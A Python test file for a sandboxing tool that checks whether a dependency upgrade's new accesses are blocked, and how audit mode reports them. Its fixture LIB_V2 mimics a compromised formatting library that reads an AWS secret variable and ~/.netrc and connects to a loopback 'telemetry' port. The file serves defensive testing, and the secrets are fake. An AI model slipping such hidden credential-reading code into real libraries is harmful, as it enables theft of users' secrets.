"""The seed's dependency-upgrade check, end to end (docs/learning.md, "Audit mode").

An application and the library it vendors: its rules are learned once, reviewed and locked.
Then the library is upgraded, and the new version does what the old one did not (a new
module, a connection, a secret variable, a credentials file). Run without ``--learn``, the
application stops at the first new access; ``--audit`` (on a copy of the file without its
lock: the lock refuses a run that enforces nothing) lists all of them in one run, enforcing
nothing and changing no rule file.
"""

from __future__ import annotations

import json
import socket
from pathlib import Path

from tests.helpers import base_env, run_sb

APP = """\
import os, sys
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "vendor"))
import libfmt

with open("data.json", encoding="utf-8") as handle:
    print(libfmt.render(handle.read()))
"""
LIB_V1 = """\
import json

__version__ = "1.0"


def render(text):
    data = json.loads(text)
    return ", ".join(f"{key}={value}" for key, value in sorted(data.items()))
"""
#: Version 2 does the same work, and phones home with what it finds.
LIB_V2 = """\
import json
import os
import socket

__version__ = "2.0"
TELEMETRY = ("127.0.0.1", {port})


def render(text):
    data = json.loads(text)
    found = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
    try:
        with open(os.path.expanduser("~/.netrc"), encoding="utf-8") as handle:
            found += handle.read()
    except FileNotFoundError:
        pass
    with socket.socket() as sock:
        sock.settimeout(1)
        sock.connect_ex(TELEMETRY)
    return ", ".join(f"{{key}}={{value}}" for key, value in sorted(data.items()))
"""


def closed_port() -> int:
    """A loopback port nothing listens on (audit enforces nothing: a connection is tried)."""

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def test_a_dependency_upgrade_is_caught_and_audited(tmp_path: Path, home: Path) -> None:
    app = tmp_path / "app"
    (app / "vendor" / "libfmt").mkdir(parents=True)
    (app / "app.py").write_text(APP)
    (app / "data.json").write_text('{"b": 2, "a": 1}')
    library = app / "vendor" / "libfmt" / "__init__.py"
    library.write_text(LIB_V1)
    (home / ".netrc").write_text("machine example.com login me password hunter2\n")
    env = base_env(home, {"AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/EXAMPLEKEY"})

    # Learned once with version 1, then locked (the docs' procedure).
    learn = run_sb(["app.py"], cwd=app, env=env)
    assert learn.returncode == 0, learn.stderr
    assert learn.stdout == "a=1, b=2\n"
    rules = app / ".py-sandboxes"
    rules.write_text(rules.read_text() + "learn=false\n")
    denials = tmp_path / "denials.jsonl"
    before = run_sb([f"--denials={denials}", "app.py"], cwd=app, env=env)
    assert before.returncode == 0, before.stderr
    assert denials.read_text() == ""

    # `uv lock --upgrade`: the library's new version.
    library.write_text(LIB_V2.format(port=closed_port()))
    locked_text = rules.read_text()
    after = run_sb([f"--denials={denials}", "app.py"], cwd=app, env=env)
    assert after.returncode == 1
    assert after.stdout == ""
    last = after.stderr.strip().splitlines()[-1]
    assert last == (
        "pysandboxes.errors.RuleModuleNotFoundError: Module named 'socket' is not allowed by a rule"
    )
    [first] = [json.loads(line) for line in denials.read_text().splitlines()]
    assert (first["kind"], first["target"]) == ("import", "socket")

    # --audit: refused under the lock, then on a copy of the file without it: all at once.
    refused = run_sb(["--audit", "app.py"], cwd=app, env=env)
    assert refused.returncode == 2
    assert "--audit refused" in refused.stderr
    (app / "audit.py-sandboxes").write_text(locked_text.replace("learn=false\n", ""))
    report = tmp_path / "audit.jsonl"
    audit = run_sb(
        ["--audit", "--pysandboxes-config=audit.py-sandboxes", f"--denials={report}", "app.py"],
        cwd=app,
        env=env,
    )
    assert audit.returncode == 0, audit.stderr
    assert audit.stdout == "a=1, b=2\n"  # nothing enforced: the work is done
    found = {(r["kind"], r["target"]) for r in map(json.loads, report.read_text().splitlines())}
    assert ("import", "socket") in found
    assert ("env", "AWS_SECRET_ACCESS_KEY") in found
    assert ("file", str(home / ".netrc")) in found
    assert any(kind == "net" for kind, _ in found)
    assert rules.read_text() == locked_text  # audit writes no rule file
